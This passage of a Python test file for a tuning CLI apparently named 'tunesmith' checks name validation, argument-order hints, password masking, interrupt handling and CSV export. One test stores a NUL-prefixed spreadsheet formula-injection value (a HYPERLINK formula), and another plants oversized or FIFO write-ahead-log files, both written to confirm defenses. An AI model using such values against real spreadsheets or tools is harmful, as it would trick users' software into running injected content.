    (project / "s.yaml").write_text((project / "study.yaml").read_text().replace("quad.py:objective",
                                                                                 "quad.py:renamed_meanwhile"))
    assert run_cli("run", str(project / "s.yaml"), "--n-trials", "2", "--no-progress") == 1
    out = capsys.readouterr().out
    assert out.startswith("study quad-renamed in ") and "2 trials run now, 2 in all (2 failed)" in out
    hint = shlex.split(out.split("their errors: ")[1].strip())
    assert hint[:3] == ["tunesmith", "show", "quad-renamed"] and run_cli(*hint[1:]) == 0
    assert "nope" in capsys.readouterr().out
    assert run_cli("worker", str(project / "s.yaml"), "--n-trials", "2", "--name", "q3") == 1
    assert "; study 'q3-renamed': 2 finished trials in " in capsys.readouterr().out


@pytest.mark.usefixtures("matplotlib_fonts_alone")
def test_an_image_of_a_study_named_in_letters_the_font_lacks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`TS plot 研究 -o h.png` ended in a traceback ("RuntimeError: No glyphs have been loaded"): the title
    was measured letter by letter, and the font has no '研'; compare's title names the study file's study too."""
    url = f"sqlite:///{tmp_path / 'a.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="研究", sampler="random", seed=0)
    study.optimize(lambda t: t.params["x"], n_trials=3)
    with pytest.warns(UserWarning, match=r"has no glyph for 2 characters of its text \(研究\)"):  # said once
        assert main(["plot", "研究", "--storage", url, "--kind", "history", "-o", str(tmp_path / "h.png")]) == 0
    assert (tmp_path / "h.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert "wrote the history of '研究'" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["x:test", " x", "a\nb", "n" * 600])
def test_a_refused_study_name_leaves_no_database_file(project: Path, capsys: pytest.CaptureFixture[str],
                                                      name: str) -> None:
    """`TS run s.yaml --name ' x' --storage sqlite:///new.db` refused the name and left new.db behind, an
    empty database that `TS studies` then listed as holding nothing (Study made the file, then checked the name)."""
    db = project / "new.db"
    assert run_cli("run", str(project / "study.yaml"), "--name", name, "--storage", f"sqlite:///{db}",
                   "--no-progress") == 2
    assert "study name" in capsys.readouterr().err and not db.exists()
    with pytest.raises(ValueError, match="study name"):
        ts.Study({"x": ts.Float(0, 1)}, storage=db, name=name)
    assert not db.exists()


@pytest.mark.parametrize("argv", [["--storage", "sqlite:///x.db", "show", "s", "--top", "2"],
                                  ["--top", "2", "show", "s"]])
def test_an_option_before_the_command_is_answered_with_the_line_that_works(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
    """`tunesmith --storage URL show NAME` (as git -C DIR log) said "argument COMMAND: invalid choice:
    'sqlite:///x.db'", naming the URL as a command and not the option that was out of place."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as exc:
        main(argv)
    err = capsys.readouterr().err
    assert exc.value.code == 2 and "invalid choice" not in err
    moved = " ".join(argv[:argv.index("show")])
    assert err.endswith(f"tunesmith: error: {argv[0]} comes before the command; a command's options come after "
                        f"its name: tunesmith show {moved} {' '.join(argv[argv.index('show') + 1:])}\n")
    assert not (tmp_path / "x.db").exists()


@pytest.mark.parametrize(("argv", "line"), [
    (["--storage", "sqlite:///x.db", "note", "s", "a note"],
     "tunesmith note --storage sqlite:///x.db s 'a note'"),
    (["--storage", "postgresql://u:secret@127.0.0.1/db", "show", "s"],
     "tunesmith show --storage 'postgresql://u:***@127.0.0.1/db' s (with the password in place of ***)"),
    (["--storage=postgresql://u:secret@127.0.0.1/db", "show", "s"],
     "tunesmith show '--storage=postgresql://u:***@127.0.0.1/db' s (with the password in place of ***)"),
    (["--storage", "sqlite:///x.db"], "tunesmith COMMAND --storage sqlite:///x.db"),
])
def test_the_line_that_works_is_quoted_for_the_shell_and_hides_a_password(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        argv: list[str], line: str) -> None:
    """The line offered for an option before the command was the words joined by spaces (a note of two
    words became two arguments) with a storage URL's password in clear; an option before no command at
    all was still "invalid choice", naming the URL as a command."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit) as exc:
        main(argv)
    err = capsys.readouterr().err
    assert exc.value.code == 2 and "invalid choice" not in err and "secret" not in err
    assert err.endswith(f"after its name: {line}\n")
    assert not (tmp_path / "x.db").exists()


def test_show_names_the_trials_a_ctrl_c_paused_to_resume_first(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """After Ctrl-C, optimize returns normally and the trial it stopped waits, paused, with its checkpoint:
    nothing said so, neither to the script nor in ``show`` (its paused trials were "resumed if promoted").
    ``study.interrupted`` says what stopped the call, and ``show`` which trials the next optimize resumes
    first, and why."""
    import os
    import signal

    def objective(trial: ts.Trial) -> float:
        for epoch in range(max(trial.start_step, 1), 4):  # on from its checkpoint when resumed
            trial.set_attr("checkpoint", str(tmp_path / f"ck{trial.number}.pt"))
            trial.report(float(trial.params["x"]), epoch)
            if trial.number == 1 and epoch == 2 and not trial.is_resumed:
                os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C: raised here, in the objective
                time.sleep(30)
            if trial.should_prune():
                raise ts.TrialPruned()
        return float(trial.params["x"])

    url = f"sqlite:///{tmp_path / 'c.db'}"
    study = ts.Study({"x": ts.Float(0, 1)}, storage=url, name="c", sampler="random", seed=0,
                     pruner=ts.pruners.ASHA(pause=True, min_resource=1, max_resource=3))
    study.optimize(objective, n_trials=4)
    assert study.interrupted == "interrupted (KeyboardInterrupt)"
    monkeypatch.setenv("COLUMNS", "400")
    capsys.readouterr()
    for top in ("10", "1"):  # every trial read whole; the heads (more trials than --top) and the paused whole
        assert run_cli("show", "c", "--storage", url, "--top", top) == 0
        out = " ".join(capsys.readouterr().out.split())
        assert "the next optimize resumes first, from their checkpoints: #1 stopped by Ctrl-C" in out, out
        assert "Ctrl-C or SIGTERM" not in out, out  # the signal that stopped it, not a guess between two
        assert "stopped early" not in out, out  # the budget line: trained so far, not saved by the pruner
    study.optimize(objective, n_trials=0)
    assert study.interrupted is None and study.trials[1].state is TrialState.COMPLETE
    assert run_cli("show", "c", "--storage", url) == 0
    assert "resumes first" not in capsys.readouterr().out


def test_export_csv_looks_through_nuls_which_a_spreadsheet_drops(tmp_path: Path) -> None:
    """LibreOffice Calc (7.4, evaluating formulas as it imports a CSV) drops every NUL from a cell, so an error
    ``\\x00=HYPERLINK(...)`` that a writer of the database stored (tunesmith writes none: it stores U+FFFD) ran as a
    formula: the NUL came first and no ' went before it. A zero-width space, a BOM or a word joiner before the =
    stays the cell's first character, which Calc read as text (and a ' would show): those are written as they are."""
    db = tmp_path / "f.db"
    texts = ["\x00=HYPERLINK(\"http://198.51.100.1/\")", "\x00\x00 +1", "\x00\t1", "\x00", "\u200b=1+1", "\ufeff=1+1",
             "\u2060@SUM(1)", "a\x00=b"]
    study = ts.Study({"k": ts.Float(0, 1)}, storage=f"sqlite:///{db}", name="f")
    for _ in texts:
        study.tell(study.ask(), state="failed", error="x")
    with sqlite3.connect(db) as conn:  # as another program writes them
        conn.executemany("UPDATE ts_trials SET error = ? WHERE number = ?", [(t, n) for n, t in enumerate(texts)])
    out = tmp_path / "t.csv"
    assert run_cli("export", "f", "--storage", f"sqlite:///{db}", "-o", str(out)) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert [r["error"] for r in rows] == ["'" + t for t in texts[:3]] + texts[3:]


@pytest.mark.parametrize("planted", ["sparse", "fifo"])
def test_a_planted_write_ahead_log_beside_a_missing_database_never_holds_show(
        tmp_path: Path, planted: str, subprocess_env: dict[str, str]) -> None:
    """Where the database is missing, ``show``, ``studies`` (and a study opened for writing) read the log beside it
    (``x.db-wal``) to say what it holds. A writer of the folder could hold them there: a sparse file of 100 GB with
    a log's header of salt 0 (no disk spent) read as 200 million frames, many minutes; a FIFO put in place of
    the log after it was looked at was opened and waited on for a writer. A frame of page 0 ends the log, as
    SQLite reads it, and the log is opened first, then looked at. Each command runs in a process of its own."""
    db, wal = tmp_path / "x.db", tmp_path / "x.db-wal"
    swap = textwrap.dedent(f"""
        import os, sys
        def hook(event, args):  # the log made a FIFO as it is opened, after the look at it
            if event == "open" and args and str(args[0]) == {str(wal)!r} and os.path.isfile(args[0]):
                os.unlink(args[0])
                os.mkfifo(args[0])
        if {planted == "fifo"}:
            sys.addaudithook(hook)
        from tunesmith.cli import main
        sys.exit(main(sys.argv[1:]))
    """)
    for argv in (["show", "s"], ["studies"]):
        wal.unlink(missing_ok=True)
        with open(wal, "wb") as f:  # magic, format, page size 512, checkpoint 0, salt 0 and checksum 0
            f.write(bytes.fromhex("377f0682") + (3007000).to_bytes(4, "big") + (512).to_bytes(4, "big") + bytes(20))
            f.truncate(100 * 2**30 if planted == "sparse" else 32)
        try:
            done = subprocess.run([sys.executable, "-c", swap, *argv, "--storage", f"sqlite:///{db}"],
                                  env=subprocess_env, capture_output=True, text=True, timeout=60)
        except subprocess.TimeoutExpired:
            pytest.fail(f"tunesmith {argv[0]} still reading the planted log after 60 s")
        assert done.returncode == 2 and "no database file at" in done.stderr.replace("such database file", "database file at"), \
            done.stderr
        assert not db.exists() and wal.is_fifo() == (planted == "fifo")
